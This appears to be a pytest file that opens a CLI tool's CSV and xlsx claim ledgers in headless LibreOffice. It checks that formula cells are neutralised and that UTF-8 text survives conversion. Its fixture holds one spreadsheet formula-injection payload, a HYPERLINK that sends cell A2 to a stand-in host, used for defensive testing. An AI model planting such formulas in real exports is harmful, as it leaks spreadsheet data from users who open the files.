"""The output opened by a real spreadsheet: LibreOffice Calc, headless (installed by .ci/run).

Skipped where LibreOffice is not installed, except in CI, where its absence is a failure.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from claimtrace.cli import app

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
if SOFFICE is None and os.environ.get("CI") == "true":
    pytest.fail("LibreOffice (soffice) is missing: .ci/run installs libreoffice-calc-nogui", pytrace=False)
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")

ATTACK = '=HYPERLINK("http://example.com/?leak="&A2,"See source [1]") is what an attacker writes.[1]'
TEXT = f"{ATTACK}\nThe “extremist organization,” rose 40% in Zürich.[2]\n"
# LibreOffice's CSV import: comma, double quote, character set detected (0) as its dialog does.
CSV_FILTER = "CSV:44,34,0"


def _calc(tmp_path, source, infilter=None, to="xlsx"):
    """`source` converted by LibreOffice to `to`; the path of the result."""
    out = tmp_path / f"lo-{source.stem}"
    args = [SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile"]
    if infilter:
        args.append(f"--infilter={infilter}")
    subprocess.run([*args, "--convert-to", to, "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=120)
    return out / f"{source.stem}.{to.split(':')[0]}"


def _ledger(tmp_path, name, *options):
    source = tmp_path / "article.txt"
    source.write_text(TEXT, encoding="utf-8")
    out = tmp_path / name
    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out), "--all", *options])
    assert result.exit_code == 0, result.output
    return out


def test_csv_cells_are_not_formulas_in_libreoffice_and_text_survives(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    guarded = _calc(tmp_path, _ledger(tmp_path, "guarded.csv", "--excel"), CSV_FILTER)
    raw = _calc(tmp_path, _ledger(tmp_path, "raw.csv", "--raw-cells"), CSV_FILTER)
    guarded_cells = [c for row in openpyxl.load_workbook(guarded).active.iter_rows() for c in row]
    raw_cells = [c for row in openpyxl.load_workbook(raw).active.iter_rows() for c in row]
    assert not [c.value for c in guarded_cells if c.data_type == "f"]  # no formula at all
    assert any(c.data_type == "f" for c in raw_cells)  # the guard is what stops it
    texts = [str(c.value) for c in guarded_cells]
    assert "The “extremist organization,” rose 40% in Zürich.[2]" in texts


def test_libreoffice_reads_the_workbook(tmp_path):
    book = _ledger(tmp_path, "ledger.xlsx")
    as_csv = _calc(tmp_path, book, None, "csv:Text - txt - csv (StarCalc):44,34,76")
    rows = list(csv.reader(as_csv.read_text(encoding="utf-8").splitlines()))
    assert rows[0][:2] == ["text", "is_claim"]  # text first (issue 22)
    texts = [row[0] for row in rows[1:]]
    assert ATTACK in texts and "The “extremist organization,” rose 40% in Zürich.[2]" in texts


def test_readme_csv_to_workbook_command_decodes_utf8(tmp_path):
    # Issue 22: `soffice --convert-to xlsx ledger.csv` read UTF-8 as the Windows code page.
    openpyxl = pytest.importorskip("openpyxl")
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    infilter = readme.split("soffice --headless --infilter=", 1)[1].split(" ", 1)[0]
    for options in ((), ("--excel",)):
        ledger = _ledger(tmp_path, "ledger.csv", *options)
        book = openpyxl.load_workbook(_calc(tmp_path, ledger, infilter))
        cells = [str(c.value) for row in book.active.iter_rows() for c in row if c.value is not None]
        assert cells[0] == "doc"
        assert "The “extremist organization,” rose 40% in Zürich.[2]" in cells
        assert not [c for c in cells if "â€" in c or "Ã" in c or "ï»¿" in c]
